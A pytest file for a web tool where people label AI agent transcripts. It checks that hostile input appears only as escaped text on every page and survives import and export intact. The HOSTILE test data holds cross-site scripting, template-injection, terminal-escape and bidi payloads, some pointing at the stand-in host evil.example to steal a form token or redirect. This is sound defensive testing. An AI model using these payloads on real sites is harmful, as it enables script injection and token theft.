"""Whatever agents and people write shows as text: the elements of a page are those of a harmless one."""

from __future__ import annotations

from collections import Counter
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from inspect_ai.model import ChatMessageAssistant, ChatMessageTool
from sqlalchemy import update
from starlette.testclient import TestClient

from offswitch.feedback.exports import export
from offswitch.feedback.imports import import_file
from offswitch.feedback.items import find_items
from offswitch.feedback.judgement import Role, Task
from offswitch.feedback.links import Keys
from offswitch.feedback.pages.app import make_app
from offswitch.feedback.schema import items
from offswitch.feedback.store import Store, open_store
from offswitch.visible import visible

HARMLESS = "HARMLESS"
HOSTILE = {
    "script": "</pre></li></ol></details></form><script>alert(1)</script>",
    "handler": "\"><img src=x onerror=alert(1)>' autofocus onfocus=alert(1) x='",
    "textarea": "</textarea></title></style><input name=form_token value=stolen><button formaction=//evil.example>",
    "frame": '<iframe src="//evil.example"></iframe><base href=//evil.example><meta http-equiv=refresh content=0>',
    "svg": "<svg><animate onbegin=alert(1)><math><mtext></mtext></svg><plaintext>",
    "template": "{{ 7*7 }}{% for x in y %}{# #}${7*7}<%= 7*7 %>",
    "entities": "&lt;script&gt;&#60;script&#62;&amp;",
    "escapes": "\x1b[2J\x1b]8;;http://evil.example\x07link\x1b]8;;\x07\x08\x7f\x9b",
    "bidi": "safe\u202egnihtemos\u202c \u2066isolate\u2069 \u200bzero\ufeff",
    "broken": "\ufffd\ufffe\uffff broken \x00 end",
}

ANSWERS = {"verdicts": {"outcome": "resisted", "threat": "yes", "aware": "no"}, "preferences": {"choice": "tie"}}


class Page(HTMLParser):
    """The elements of a page, with their attributes, and its text."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, tuple[str, ...]]] = []
        self.text = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, tuple(name for name, _ in attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment came out of nothing: {data}")


@pytest.fixture(scope="module")
def pages(tmp_path_factory: pytest.TempPathFactory, made_module_here) -> Any:
    """All the pages about trials that hold a text wherever agents and people can write one."""
    write, trials, replace = made_module_here

    def make(name: str, hostile: str) -> dict[str, Page]:
        folder = tmp_path_factory.mktemp(name)
        one, two = trials(1, hostile=hostile)
        two = replace(two, messages=tuple(parted(one, hostile)))
        run = write(folder / "run", [one, two])
        store = open_store(str(folder / "s.db"), lambda: 1_800_000_000.0)
        for task in Task:
            store.add_items(find_items([run], task).items, 2, "test")
        with store.writing() as connection:
            # Everywhere the same order.
            connection.execute(update(items).values(position=items.c.id))
        return dict(visit(store, hostile))

    return make


def parted(trial: Any, hostile: str) -> Iterator[Any]:
    """The usual transcript with another way to go on."""
    from made_runs import transcript

    for number, message in enumerate(transcript(hostile)):
        if number == 6:
            yield ChatMessageAssistant(content="Otherwise. " + hostile)
        elif number != 7:
            yield message


def visit(store: Store, hostile: str) -> Iterator[tuple[str, Page]]:
    keys = Keys(store)
    app = make_app(store, "http://localhost")
    for name, role in (("ada", Role.LABELLER), ("ben", Role.LABELLER), ("boss", Role.LEAD)):
        session = keys.session(store.add_person(name, role, "test"))
        client = TestClient(app, base_url="http://localhost", cookies={app.state.cookie: session})
        if role is Role.LEAD:
            paths = ["/lead", "/lead/items/verdicts", "/lead/items/verdicts/1", "/lead/items/verdicts/2",
                     "/lead/items/preferences?which=flagged", "/lead/items/preferences/3", "/lead/audit"]  # fmt: skip
        else:
            for task, answer in ANSWERS.items():
                page = client.get(f"/label/{task}")
                yield f"{name} {task}", Page(page.text)
                where = page.text.partition(f'action="/label/{task}/')[2].partition('"')[0]
                token = page.text.partition('name="form_token" value="')[2].partition('"')[0]
                form = answer | {"form_token": token, "notes": hostile, "flag": "on", "active_seconds": hostile}
                sent = client.post(f"/label/{task}/{where}", data=form)
                assert sent.status_code == 200, sent.text
                undone = client.post(f"/undo/{task}", data={"form_token": token})
                yield f"{name} {task} again", Page(undone.text)
                assert client.post(f"/label/{task}/{where}", data=form).status_code == 200
            paths = ["/", "/mine"]
        for path in paths:
            answer = client.get(path)
            assert answer.status_code == 200, path
            yield f"{name} {path}", Page(answer.text)


@pytest.fixture(scope="module")
def harmless(pages) -> dict[str, Page]:
    return pages("harmless", HARMLESS)


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_text_changes_no_page_but_its_text(pages, harmless: dict[str, Page], name: str) -> None:
    hostile = HOSTILE[name]
    found = pages(name, hostile)
    assert found.keys() == harmless.keys()
    seen = 0
    for where, page in found.items():
        # Counted, not in order: which of a pair is the first depends on the names of logs.
        assert Counter(page.elements) == Counter(harmless[where].elements), where
        times = harmless[where].text.count(HARMLESS)
        seen += times
        if "audit" not in where:
            assert page.text.count(visible(hostile).replace("\0", "␀")) == times, where
        for sign in "\x1b\x00\x07\x9b\u202e\u2066\u200b":
            assert sign not in page.text
    assert seen > 40


def test_ten_megabytes_on_one_line_are_cut(tmp_path: Path, made_module_here) -> None:
    write, trials, replace = made_module_here
    one, _ = trials(1)
    messages = list(one.messages)
    messages[7] = ChatMessageTool(content="x" * 10_000_000, tool_call_id="c3", function="bash")
    run = write(tmp_path / "run", [replace(one, messages=tuple(messages))])
    store = open_store(str(tmp_path / "s.db"), lambda: 1_800_000_000.0)
    store.add_items(find_items([run], Task.VERDICTS).items, 1, "test")
    app = make_app(store, "http://localhost")
    person = store.add_person("ada", Role.LABELLER, "test")
    client = TestClient(app, base_url="http://localhost", cookies={app.state.cookie: Keys(store).session(person)})
    page = client.get("/label/verdicts")
    assert len(page.content) < 200_000 and "characters left out here" in page.text


def test_hostile_imports_and_exports(store: Store, run_folder: Path, tmp_path: Path) -> None:
    store.add_items(find_items([run_folder], Task.VERDICTS).items, 3, "test")
    key = find_items([run_folder], Task.VERDICTS).items[0].key
    # As another tool would have written it: with halves of pairs and NUL inside.
    note = "".join(HOSTILE.values()).encode("unicode_escape").decode().replace("\\x", "\\u00").replace('"', '\\"')
    note = note.replace("\\\\", "")
    text = f'[{{"id": "{key}", "responses": {{"outcome": [{{"value": "complied", "user_id": "<b>\\u202e"}}],' + (
        f'"notes": [{{"value": "{note} \\ud800 \\u0000", "user_id": "<b>\\u202e"}}]}}}}]'
    )
    path = tmp_path / "in.json"
    path.write_text(text, encoding="utf-8")
    assert import_file(store, path, "test").taken == 1
    done = export(store, tmp_path / "out", "test")
    assert done.rows["judgements.jsonl"] == 1
    line = (tmp_path / "out" / "judgements.jsonl").read_bytes().decode("utf-8")
    assert '"person": "-b--@argilla"' in line and "\x1b" not in line
